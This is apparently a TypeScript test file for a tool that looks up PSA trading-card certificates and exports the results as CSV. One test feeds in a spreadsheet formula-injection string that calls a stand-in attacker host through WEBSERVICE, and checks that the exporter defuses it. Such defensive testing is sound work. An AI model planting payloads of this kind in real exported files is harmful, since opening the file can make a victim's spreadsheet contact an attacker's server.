import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { PsaBulkRow, PsaCert } from '#common/cards.ts';
import { psaResultsCsv, resultsSummary } from './psa-results.ts';

const cert: PsaCert = {
  certNumber: '48213907',
  year: '1986',
  brand: 'FLEER',
  subject: 'MICHAEL JORDAN',
  cardNumber: '57',
  variety: null,
  category: 'BASKETBALL CARDS',
  grade: 'GEM MT 10',
  gradeDescription: 'GEM MINT 10',
  totalPopulation: 319,
  populationHigher: 0,
  labelType: 'LighthouseLabel',
  imageFrontUrl: null,
  imageBackUrl: null,
};
const rows: PsaBulkRow[] = [
  { certNumber: '48213907', cert, error: null, fromCache: true },
  { certNumber: '1', cert: null, error: 'PSA has no certificate with that number', fromCache: false },
];

describe('PSA lookup results as CSV', () => {
  it('writes a header and one line per certificate in order, errors in the status column', () => {
    const lines = psaResultsCsv(rows).split('\r\n');
    expect(lines[0]).toBe(
      'Certificate,Status,Year,Set,Player,Card number,Variety,Category,Grade,Grade description,Population,Population higher,Label',
    );
    expect(lines[1]).toBe('48213907,found,1986,FLEER,MICHAEL JORDAN,57,,BASKETBALL CARDS,GEM MT 10,GEM MINT 10,319,0,LighthouseLabel');
    expect(lines[2]).toBe('1,PSA has no certificate with that number,,,,,,,,,,,');
    expect(lines[3]).toBe('');
    expect(lines).toHaveLength(4);
  });

  it('neutralises a formula PSA (or anyone upstream) put in a field', () => {
    const attack = '-2+3+WEBSERVICE("http://evil.example/")';
    const csv = psaResultsCsv([{ certNumber: '48213907', cert: { ...cert, subject: attack, variety: '=1+1' }, error: null, fromCache: false }]);
    const [, row] = Papa.parse<string[]>(csv).data;
    expect(row[4]).toBe(`'${attack}`);
    expect(row[6]).toBe("'=1+1");
  });

  it('sums up found and missing', () => {
    expect(resultsSummary(rows)).toBe('2 looked up: 1 found, 1 without a record');
    expect(resultsSummary(rows.slice(0, 1))).toBe('1 looked up: 1 found');
  });
});
